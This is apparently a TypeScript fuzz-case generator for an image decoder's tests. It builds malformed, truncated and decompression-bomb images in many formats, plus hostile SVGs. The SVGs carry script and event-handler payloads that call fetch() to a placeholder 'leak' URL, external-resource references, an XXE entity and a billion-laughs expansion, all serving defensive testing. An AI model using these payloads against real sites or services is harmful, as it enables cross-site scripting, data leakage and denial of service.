/**
 * A seeded generator of hostile image inputs, shared by the engine fuzz in Node (test/captioner/fuzz.test.ts) and in
 * Chromium (test/browser/fuzz.test.ts). Same seed, same cases, byte for byte.
 *
 * Categories (each case names one): valid seeds of every format, bit flips, truncation, random bytes with image MIME
 * types, header-only files, 0×0 images, 1×20000 and 20000×1 strips, decompression bombs, animated GIF and WebP,
 * hostile SVG (scripts, handlers, external references, foreignObject, entity expansion), ICO, and mislabelled types.
 */
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname } from 'node:path';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { rng } from '../../helpers/rng';
import { PNG_SIG, pngChunk } from './images';

type FuzzCategory =
  | 'valid'
  | 'bit-flip'
  | 'truncated'
  | 'random-bytes'
  | 'header-only'
  | 'zero-size'
  | 'strip'
  | 'bomb'
  | 'animated'
  | 'svg-hostile'
  | 'ico'
  | 'mislabelled';

export interface FuzzCase {
  id: number;
  category: FuzzCategory;
  /** what it is, for the report */
  label: string;
  /** the Blob type it is handed over with ('' for none) */
  mime: string;
  bytes: Uint8Array;
  /** 'ok': must decode (a valid image); 'error': must be a named error; 'any': either */
  expect: 'ok' | 'error' | 'any';
  /** for valid animated images: the first frame's colour, which the decoder must return */
  firstFrame?: [number, number, number];
  /** the decoded size the engine must report (after downscaling) when it succeeds */
  maxPixels?: number;
}

// --- hand-built encoders (PNG, GIF, BMP, ICO), for headers sharp would refuse to write -----------------------------

/** A PNG of w×h; bitDepth 1 palette (two colours) compresses a 20000² image to a few tens of kB. */
function palettePng(w: number, h: number, rowFill = 0): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(w, 0);
  ihdr.writeUInt32BE(h, 4);
  ihdr[8] = 1; // bit depth
  ihdr[9] = 3; // palette
  const rowBytes = Math.ceil(w / 8) + 1;
  const raw = Buffer.alloc(rowBytes * h, rowFill);
  for (let y = 0; y < h; y++) raw[y * rowBytes] = 0; // filter: none
  return Buffer.concat([
    PNG_SIG,
    pngChunk('IHDR', ihdr),
    pngChunk('PLTE', Buffer.from([200, 30, 60, 20, 120, 220])),
    pngChunk('IDAT', deflateSync(raw, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

function pngHeaderOnly(w: number, h: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(w, 0);
  ihdr.writeUInt32BE(h, 4);
  ihdr[8] = 8;
  ihdr[9] = 2;
  return Buffer.concat([PNG_SIG, pngChunk('IHDR', ihdr)]);
}

/** A GIF whose logical screen and single frame are w×h, all one colour (LZW of a tiny frame, or a header claim). */
function gif(w: number, h: number, withFrame: boolean): Buffer {
  const head = Buffer.alloc(13);
  head.write('GIF89a', 0, 'ascii');
  head.writeUInt16LE(w, 6);
  head.writeUInt16LE(h, 8);
  head[10] = 0x80; // global colour table of 2 entries
  const gct = Buffer.from([200, 30, 60, 0, 0, 0]);
  if (!withFrame) return Buffer.concat([head, gct, Buffer.from([0x3b])]);
  const desc = Buffer.alloc(10);
  desc[0] = 0x2c;
  desc.writeUInt16LE(w, 5);
  desc.writeUInt16LE(h, 7);
  // min code size 2; data: clear(4), 0, end(5) as 3-bit codes -> 0b101_000_100 = 0x44 0x01
  const data = Buffer.from([0x02, 0x02, 0x44, 0x01, 0x00]);
  return Buffer.concat([head, gct, desc, data, Buffer.from([0x3b])]);
}

/** A 24-bit bottom-up BMP, solid colour; `claim` overrides the header's size (pixels left as for w×h). */
function bmp(w: number, h: number, rgb: [number, number, number], claim?: { w: number; h: number }): Buffer {
  const row = Math.ceil((w * 3) / 4) * 4;
  const b = Buffer.alloc(54 + row * h);
  b.write('BM', 0, 'ascii');
  b.writeUInt32LE(b.length, 2);
  b.writeUInt32LE(54, 10);
  b.writeUInt32LE(40, 14);
  b.writeInt32LE(claim?.w ?? w, 18);
  b.writeInt32LE(claim?.h ?? h, 22);
  b.writeUInt16LE(1, 26);
  b.writeUInt16LE(24, 28);
  b.writeUInt32LE(row * h, 34);
  for (let y = 0; y < h; y++) for (let x = 0; x < w; x++) b.set([rgb[2], rgb[1], rgb[0]], 54 + y * row + x * 3);
  return b;
}

/** An ICO holding one image: a PNG, or a 32-bit BMP (DIB with doubled height and an AND mask). */
function ico(kind: 'png' | 'bmp', size: number, png?: Buffer): Buffer {
  let img: Buffer;
  if (kind === 'png') img = png!;
  else {
    const dib = Buffer.alloc(40);
    dib.writeUInt32LE(40, 0);
    dib.writeInt32LE(size, 4);
    dib.writeInt32LE(size * 2, 8);
    dib.writeUInt16LE(1, 12);
    dib.writeUInt16LE(32, 14);
    const px = Buffer.alloc(size * size * 4);
    for (let i = 0; i < size * size; i++) px.set([60, 30, 200, 255], i * 4); // BGRA
    const mask = Buffer.alloc(Math.ceil(size / 32) * 4 * size);
    img = Buffer.concat([dib, px, mask]);
  }
  const head = Buffer.alloc(6 + 16);
  head.writeUInt16LE(0, 0);
  head.writeUInt16LE(1, 2);
  head.writeUInt16LE(1, 4);
  head[6] = size % 256;
  head[7] = size % 256;
  head.writeUInt16LE(1, 10);
  head.writeUInt16LE(32, 12);
  head.writeUInt32LE(img.length, 14);
  head.writeUInt32LE(22, 18);
  return Buffer.concat([head, img]);
}

/** Patch the first SOF marker of a JPEG to claim w×h. */
function jpegClaim(jpeg: Buffer, w: number, h: number): Buffer {
  const b = Buffer.from(jpeg);
  let o = 2;
  while (o + 9 < b.length) {
    const marker = b[o + 1];
    if (marker >= 0xc0 && marker <= 0xc2) {
      b.writeUInt16BE(h, o + 5);
      b.writeUInt16BE(w, o + 7);
      return b;
    }
    o += 2 + b.readUInt16BE(o + 2);
  }
  return b;
}

/** A VP8X (extended) WebP header claiming w×h, with no image data. */
function webpVp8xClaim(w: number, h: number): Buffer {
  const b = Buffer.alloc(30);
  b.write('RIFF', 0, 'ascii');
  b.writeUInt32LE(22, 4);
  b.write('WEBPVP8X', 8, 'ascii');
  b.writeUInt32LE(10, 16);
  b.writeUIntLE(w - 1, 24, 3);
  b.writeUIntLE(h - 1, 27, 3);
  return b;
}

const COLOUR: [number, number, number] = [200, 30, 60];

/** Small valid images of every format the engine promises to read (ICO and SVG included). */
async function seeds(): Promise<Array<{ label: string; mime: string; bytes: Buffer }>> {
  // A little texture, so that bit flips land in real entropy-coded data, not only in a flat run.
  const w = 48;
  const h = 36;
  const raw = Buffer.alloc(w * h * 3);
  for (let y = 0; y < h; y++) for (let x = 0; x < w; x++) raw.set([(x * 5) & 255, (y * 7) & 255, ((x ^ y) * 3) & 255], (y * w + x) * 3);
  const base = () => sharp(raw, { raw: { width: w, height: h, channels: 3 } });
  const png16 = await sharp({ create: { width: 16, height: 16, channels: 4, background: { r: 200, g: 30, b: 60, alpha: 1 } } })
    .png()
    .toBuffer();
  return [
    { label: 'png', mime: 'image/png', bytes: await base().png().toBuffer() },
    { label: 'png-interlaced', mime: 'image/png', bytes: await base().png({ progressive: true }).toBuffer() },
    { label: 'jpeg', mime: 'image/jpeg', bytes: await base().jpeg({ quality: 80 }).toBuffer() },
    { label: 'jpeg-progressive', mime: 'image/jpeg', bytes: await base().jpeg({ progressive: true }).toBuffer() },
    { label: 'gif', mime: 'image/gif', bytes: await base().gif().toBuffer() },
    { label: 'webp', mime: 'image/webp', bytes: await base().webp().toBuffer() },
    { label: 'webp-lossless', mime: 'image/webp', bytes: await base().webp({ lossless: true }).toBuffer() },
    { label: 'avif', mime: 'image/avif', bytes: await base().avif({ effort: 0 }).toBuffer() },
    { label: 'bmp', mime: 'image/bmp', bytes: bmp(w, h, COLOUR) },
    { label: 'ico-png', mime: 'image/x-icon', bytes: ico('png', 16, png16) },
    { label: 'ico-bmp', mime: 'image/vnd.microsoft.icon', bytes: ico('bmp', 16) },
    {
      label: 'svg',
      mime: 'image/svg+xml',
      bytes: Buffer.from(
        `<svg xmlns="http://www.w3.org/2000/svg" width="48" height="36"><rect width="48" height="36" fill="rgb(200,30,60)"/><circle cx="24" cy="18" r="9" fill="#fff"/></svg>`,
      ),
    },
  ];
}

async function animated(format: 'gif' | 'webp'): Promise<Buffer> {
  const frame = (c: { r: number; g: number; b: number }) =>
    sharp({ create: { width: 32, height: 24, channels: 3, background: c } })
      .png()
      .toBuffer();
  const frames = [
    await frame({ r: COLOUR[0], g: COLOUR[1], b: COLOUR[2] }),
    await frame({ r: 0, g: 0, b: 255 }),
    await frame({ r: 0, g: 255, b: 0 }),
  ];
  const img = sharp(frames, { join: { animated: true } });
  return format === 'gif'
    ? img.gif({ delay: [50, 50, 50], loop: 0 }).toBuffer()
    : img.webp({ delay: [50, 50, 50], loop: 0, lossless: true }).toBuffer();
}

/** Hostile SVGs. `leak` is a URL prefix nothing may ever request; `mark` is what a script would set on window.top. */
function hostileSvgs(leak: string): Array<{ label: string; svg: string; expect: FuzzCase['expect'] }> {
  const open = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="30">';
  const rect = '<rect width="40" height="30" fill="rgb(200,30,60)"/>';
  const pwn = (tag: string) => `try{top.__svgPwned=(top.__svgPwned||[]).concat('${tag}')}catch(e){};try{fetch('${leak}${tag}')}catch(e){}`;
  const s = (label: string, body: string, expect: FuzzCase['expect'] = 'ok') => ({ label, svg: `${open}${rect}${body}</svg>`, expect });
  return [
    s('script', `<script>${pwn('script')}</script>`),
    s('script-cdata', `<script type="text/javascript"><![CDATA[${pwn('cdata')}]]></script>`),
    s('script-src', `<script href="${leak}script-src.js"/><script xlink:href="${leak}script-xlink.js"/>`),
    {
      label: 'onload-root',
      svg: `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30" onload="${pwn('onload')}">${rect}</svg>`,
      expect: 'ok',
    },
    s('onload-element', `<rect width="1" height="1" onload="${pwn('rect-onload')}"/><image href="data:," onerror="${pwn('onerror')}"/>`),
    s('image-external', `<image href="${leak}image.png" width="40" height="30"/>`),
    s('image-xlink-external', `<image xlink:href="${leak}image-xlink.png" width="40" height="30"/>`),
    s('use-external', `<use href="${leak}sprite.svg#a"/><use xlink:href="${leak}sprite2.svg#b"/>`),
    s('feimage-external', `<filter id="f"><feImage href="${leak}feimage.png"/></filter><rect width="40" height="30" filter="url(#f)"/>`),
    s('css-import', `<style>@import url("${leak}import.css"); rect { fill: url("${leak}fill.svg#p") }</style>`),
    s('css-background', `<style>svg { background: url("${leak}bg.png") }</style>`),
    s(
      'font-face',
      `<style>@font-face { font-family: x; src: url("${leak}font.woff2") } text { font-family: x }</style><text y="20">hi</text>`,
    ),
    s(
      'foreign-object',
      `<foreignObject width="40" height="30"><div xmlns="http://www.w3.org/1999/xhtml"><img src="${leak}fo-img.png"/><iframe src="${leak}fo-iframe.html"></iframe><script>${pwn('fo-script')}</script></div></foreignObject>`,
    ),
    s(
      'foreign-object-handler',
      `<foreignObject width="40" height="30"><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${pwn('fo-onerror')}"/></foreignObject>`,
    ),
    s('anchor-js', `<a href="javascript:${pwn('anchor')}"><rect width="40" height="30"/></a>`),
    s(
      'set-animate-handler',
      `<set attributeName="x" to="1" begin="0s" onbegin="${pwn('onbegin')}"/><animate attributeName="opacity" from="1" to="1" dur="1s" onbegin="${pwn('animate')}"/>`,
    ),
    s(
      'iframe-meta-refresh',
      `<foreignObject width="1" height="1"><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${leak}refresh"/></foreignObject>`,
    ),
    {
      label: 'xml-external-entity',
      expect: 'any',
      svg: `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY ext SYSTEM "${leak}xxe.txt">]>${open}${rect}<text y="20">&ext;</text></svg>`,
    },
    {
      label: 'billion-laughs',
      expect: 'any',
      svg: `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">]>${open}${rect}<text y="20">&g;</text></svg>`,
    },
    { label: 'unclosed', svg: `${open}<rect width="40"`, expect: 'error' },
    { label: 'not-svg-xml', svg: '<svg><p>html in svg clothing</svg></svg>', expect: 'any' },
    { label: 'svg-no-size', svg: `<svg xmlns="http://www.w3.org/2000/svg">${rect}</svg>`, expect: 'ok' },
    {
      label: 'svg-huge-size',
      svg: `<svg xmlns="http://www.w3.org/2000/svg" width="20000" height="20000" viewBox="0 0 40 30">${rect}</svg>`,
      expect: 'ok',
    },
    {
      label: 'svg-giant-size',
      svg: `<svg xmlns="http://www.w3.org/2000/svg" width="1e9" height="1e9" viewBox="0 0 40 30">${rect}</svg>`,
      expect: 'any',
    },
    { label: 'svg-zero-size', svg: `<svg xmlns="http://www.w3.org/2000/svg" width="0" height="0">${rect}</svg>`, expect: 'any' },
    { label: 'svg-negative-size', svg: `<svg xmlns="http://www.w3.org/2000/svg" width="-5" height="30">${rect}</svg>`, expect: 'any' },
  ];
}

export interface GenerateOptions {
  seed: number;
  /** a URL prefix that hostile SVGs reference; nothing may request it */
  leak: string;
  /** where the 20000×20000 bomb is cached between runs */
  cacheDir: string;
  /** bit-flip and truncation cases per seed (default 34 and 24 give about 1,100 cases in all) */
  flipsPerSeed?: number;
  truncationsPerSeed?: number;
  randomCases?: number;
}

export async function generateFuzzCases(o: GenerateOptions): Promise<FuzzCase[]> {
  const rand = rng(o.seed);
  const int = (n: number) => Math.floor(rand() * n);
  const out: FuzzCase[] = [];
  const add = (c: Omit<FuzzCase, 'id'>) => out.push({ id: out.length, ...c });
  const seedImgs = await seeds();

  for (const s of seedImgs) add({ category: 'valid', label: s.label, mime: s.mime, bytes: s.bytes, expect: 'ok' });

  // Bit flips: 1 to 8 random bits anywhere, or concentrated in the first 64 bytes (headers).
  for (const s of seedImgs) {
    for (let i = 0; i < (o.flipsPerSeed ?? 34); i++) {
      const b = Uint8Array.from(s.bytes);
      const flips = 1 + int(8);
      const headerOnly = i % 3 === 0;
      for (let k = 0; k < flips; k++) {
        const at = headerOnly ? int(Math.min(64, b.length)) : int(b.length);
        b[at] ^= 1 << int(8);
      }
      add({
        category: 'bit-flip',
        label: `${s.label} ${flips} bit(s)${headerOnly ? ' in header' : ''}`,
        mime: s.mime,
        bytes: b,
        expect: 'any',
      });
    }
  }

  // Truncation at many offsets: the first bytes, then spread over the file, then just short of the end.
  for (const s of seedImgs) {
    const n = o.truncationsPerSeed ?? 24;
    const offsets = new Set<number>([0, 1, 2, 4, 8, 16, 24, 33, s.bytes.length - 1, s.bytes.length - 2, s.bytes.length >> 1]);
    while (offsets.size < n) offsets.add(int(s.bytes.length));
    for (const at of offsets) {
      if (at < 0 || at >= s.bytes.length) continue;
      add({
        category: 'truncated',
        label: `${s.label} cut at ${at} of ${s.bytes.length}`,
        mime: s.mime,
        bytes: s.bytes.subarray(0, at),
        expect: at === 0 ? 'error' : 'any',
      });
    }
  }

  // Random bytes labelled as images; half of them start with a real signature, so they get past sniffing.
  const mimes = [
    'image/png',
    'image/jpeg',
    'image/gif',
    'image/webp',
    'image/avif',
    'image/bmp',
    'image/x-icon',
    'image/svg+xml',
    'image/*',
    '',
  ];
  const sigs = [
    PNG_SIG,
    Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
    Buffer.from('GIF89a'),
    Buffer.from('RIFF\0\0\0\0WEBPVP8 '),
    Buffer.from('BM'),
    Buffer.from([0, 0, 1, 0]),
    Buffer.from('\0\0\0\x1cftypavif'),
    Buffer.from('<svg '),
  ];
  for (let i = 0; i < (o.randomCases ?? 150); i++) {
    const len = [0, 1, 7, 64, 512, 4096, 65536][int(7)] + int(16);
    const b = new Uint8Array(len);
    for (let k = 0; k < len; k++) b[k] = int(256);
    if (i % 2 === 1) b.set(sigs[int(sigs.length)].subarray(0, len));
    add({
      category: 'random-bytes',
      label: `${len} random bytes${i % 2 ? ' after a signature' : ''}`,
      mime: mimes[i % mimes.length],
      bytes: b,
      expect: 'any',
    });
  }

  // Header-only files: a signature and a header claiming a size, then nothing.
  const headerOnly: Array<[string, string, Buffer]> = [
    ['png IHDR 48x36', 'image/png', pngHeaderOnly(48, 36)],
    ['png IHDR 4096x4096', 'image/png', pngHeaderOnly(4096, 4096)],
    ['gif screen 48x36 no frame', 'image/gif', gif(48, 36, false)],
    ['bmp header 48x36 no pixels', 'image/bmp', bmp(48, 36, COLOUR).subarray(0, 54)],
    ['webp VP8X 48x36 no data', 'image/webp', webpVp8xClaim(48, 36)],
    ['png signature only', 'image/png', PNG_SIG],
    ['jpeg SOI only', 'image/jpeg', Buffer.from([0xff, 0xd8])],
    ['gif signature only', 'image/gif', Buffer.from('GIF89a')],
    ['ico header only', 'image/x-icon', Buffer.from([0, 0, 1, 0, 1, 0])],
  ];
  const jpegSeed = seedImgs.find((s) => s.label === 'jpeg')!.bytes;
  const sos = jpegSeed.indexOf(Buffer.from([0xff, 0xda]));
  headerOnly.push(['jpeg headers up to SOS', 'image/jpeg', jpegSeed.subarray(0, sos + 2)]);
  for (const [label, mime, bytes] of headerOnly) add({ category: 'header-only', label, mime, bytes, expect: 'any' });

  // 0×0 (and 0×N) images.
  const zero: Array<[string, string, Buffer]> = [
    ['png 0x0', 'image/png', palettePng(0, 0)],
    ['png 0x36', 'image/png', pngHeaderOnly(0, 36)],
    ['png 48x0', 'image/png', pngHeaderOnly(48, 0)],
    ['gif 0x0', 'image/gif', gif(0, 0, true)],
    ['bmp 0x0', 'image/bmp', bmp(0, 0, COLOUR)],
    ['bmp claims 0x36', 'image/bmp', bmp(48, 36, COLOUR, { w: 0, h: 36 })],
    ['jpeg SOF 0x0', 'image/jpeg', jpegClaim(jpegSeed, 0, 0)],
    ['svg 0x0', 'image/svg+xml', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="0" height="0"/>')],
  ];
  for (const [label, mime, bytes] of zero) add({ category: 'zero-size', label, mime, bytes, expect: 'error' });

  // Strips: 1 pixel by 20000, both ways (WebP's limit is 16383).
  const stripPng = (w: number, h: number) => sharp({ create: { width: w, height: h, channels: 3, background: { r: 200, g: 30, b: 60 } } });
  const strips: Array<[string, string, Buffer]> = [
    ['png 1x20000', 'image/png', palettePng(1, 20000)],
    ['png 20000x1', 'image/png', palettePng(20000, 1)],
    ['png rgb 1x20000', 'image/png', await stripPng(1, 20000).png().toBuffer()],
    ['jpeg 1x20000', 'image/jpeg', await stripPng(1, 20000).jpeg().toBuffer()],
    ['jpeg 20000x1', 'image/jpeg', await stripPng(20000, 1).jpeg().toBuffer()],
    ['gif 1x20000', 'image/gif', await stripPng(1, 20000).gif().toBuffer()],
    ['gif 20000x1', 'image/gif', await stripPng(20000, 1).gif().toBuffer()],
    ['webp 1x16383', 'image/webp', await stripPng(1, 16383).webp({ lossless: true }).toBuffer()],
    ['webp 16383x1', 'image/webp', await stripPng(16383, 1).webp({ lossless: true }).toBuffer()],
    ['bmp 1x20000', 'image/bmp', bmp(1, 20000, COLOUR)],
    ['bmp 20000x1', 'image/bmp', bmp(20000, 1, COLOUR)],
    [
      'svg 1x20000',
      'image/svg+xml',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="20000"><rect width="1" height="20000" fill="red"/></svg>'),
    ],
  ];
  for (const [label, mime, bytes] of strips) add({ category: 'strip', label, mime, bytes, expect: 'ok' });

  // Decompression bombs: a real 20000×20000 PNG in a few tens of kB (1.6 GB as RGBA), and headers claiming more.
  const bombPath = `${o.cacheDir}/bomb-20000-palette.png`;
  if (!existsSync(bombPath)) {
    mkdirSync(dirname(bombPath), { recursive: true });
    writeFileSync(bombPath, palettePng(20000, 20000));
  }
  const bombs: Array<[string, string, Buffer, FuzzCase['expect']]> = [
    // It decodes (downscaled to the pixel cap) in about 12 s on a busy 2-core machine: a timeout is a fair outcome too.
    ['png 20000x20000 (palette, tiny file)', 'image/png', readFileSync(bombPath), 'any'],
    ['png IHDR 20000x20000, no data', 'image/png', pngHeaderOnly(20000, 20000), 'any'],
    ['png IHDR 2^31-1 square', 'image/png', pngHeaderOnly(0x7fffffff, 0x7fffffff), 'any'],
    ['gif 20000x20000 one tiny frame', 'image/gif', gif(20000, 20000, true), 'any'],
    ['gif 65535x65535 screen', 'image/gif', gif(65535, 65535, true), 'any'],
    ['jpeg SOF claims 20000x20000', 'image/jpeg', jpegClaim(jpegSeed, 20000, 20000), 'any'],
    ['jpeg SOF claims 65535x65535', 'image/jpeg', jpegClaim(jpegSeed, 65535, 65535), 'any'],
    ['bmp claims 20000x20000', 'image/bmp', bmp(48, 36, COLOUR, { w: 20000, h: 20000 }), 'any'],
    ['bmp claims -2^31 height', 'image/bmp', bmp(48, 36, COLOUR, { w: 48, h: -0x80000000 }), 'any'],
    ['webp VP8X claims 16384x16384', 'image/webp', webpVp8xClaim(16384, 16384), 'any'],
    [
      'svg 20000x20000',
      'image/svg+xml',
      Buffer.from(
        '<svg xmlns="http://www.w3.org/2000/svg" width="20000" height="20000"><rect width="20000" height="20000" fill="rgb(200,30,60)"/></svg>',
      ),
      'ok',
    ],
  ];
  for (const [label, mime, bytes, expect] of bombs) add({ category: 'bomb', label, mime, bytes, expect, maxPixels: 4096 * 4096 });

  // Animated GIF and WebP: the first frame is the one described; then the same damaged.
  for (const f of ['gif', 'webp'] as const) {
    const a = await animated(f);
    add({ category: 'animated', label: `${f} 3 frames`, mime: `image/${f}`, bytes: a, expect: 'ok', firstFrame: COLOUR });
    add({ category: 'animated', label: `${f} 3 frames, no type`, mime: '', bytes: a, expect: 'ok', firstFrame: COLOUR });
    for (let i = 0; i < 14; i++) {
      const b = Uint8Array.from(a);
      if (i % 2) b[16 + int(b.length - 16)] ^= 1 << int(8);
      add({
        category: 'animated',
        label: `${f} 3 frames, ${i % 2 ? 'bit flip' : 'truncated'}`,
        mime: `image/${f}`,
        bytes: i % 2 ? b : a.subarray(0, 1 + int(a.length - 1)),
        expect: 'any',
      });
    }
  }

  // Hostile SVG, labelled and unlabelled (sniffed from the bytes).
  for (const h of hostileSvgs(o.leak)) {
    add({ category: 'svg-hostile', label: h.label, mime: 'image/svg+xml', bytes: Buffer.from(h.svg), expect: h.expect });
    add({ category: 'svg-hostile', label: `${h.label} (no type)`, mime: '', bytes: Buffer.from(h.svg), expect: h.expect });
  }

  // ICO: valid, many images claimed, bogus offsets and sizes.
  const icoPng = seedImgs.find((s) => s.label === 'ico-png')!.bytes;
  const icoVariant = (label: string, patch: (b: Buffer) => void, expect: FuzzCase['expect'] = 'any') => {
    const b = Buffer.from(icoPng);
    patch(b);
    add({ category: 'ico', label, mime: 'image/x-icon', bytes: b, expect });
  };
  icoVariant('ico png 16x16', () => {}, 'ok');
  icoVariant('ico claims 65535 images', (b) => b.writeUInt16LE(65535, 4));
  icoVariant('ico claims 0 images', (b) => b.writeUInt16LE(0, 4), 'error');
  icoVariant('ico offset past the end', (b) => b.writeUInt32LE(0x7fffffff, 18));
  icoVariant('ico size past the end', (b) => b.writeUInt32LE(0x7fffffff, 14));
  icoVariant('ico size 0', (b) => b.writeUInt32LE(0, 14));
  icoVariant('ico type 2 (cursor)', (b) => b.writeUInt16LE(2, 2));
  icoVariant('ico width 0 (=256)', (b) => ((b[6] = 0), (b[7] = 0)));
  add({ category: 'ico', label: 'ico bmp 16x16', mime: 'image/x-icon', bytes: ico('bmp', 16), expect: 'ok' });
  add({ category: 'ico', label: 'ico bmp 256x256', mime: 'image/x-icon', bytes: ico('bmp', 256), expect: 'ok' });
  for (let i = 0; i < 10; i++) {
    const b = Buffer.from(ico('bmp', 16));
    b[int(62)] ^= 1 << int(8);
    add({ category: 'ico', label: 'ico bmp header bit flip', mime: 'image/x-icon', bytes: b, expect: 'any' });
  }

  // Mislabelled: valid bytes with the wrong type (the decoder sniffs content, as <img> does).
  for (const s of seedImgs) {
    for (const mime of ['image/jpeg', 'image/png', 'text/html', 'application/octet-stream']) {
      if (mime === s.mime) continue;
      // An SVG the caller says is a PNG is still found by its first bytes.
      add({ category: 'mislabelled', label: `${s.label} as ${mime}`, mime, bytes: s.bytes, expect: 'any' });
    }
  }
  return out;
}
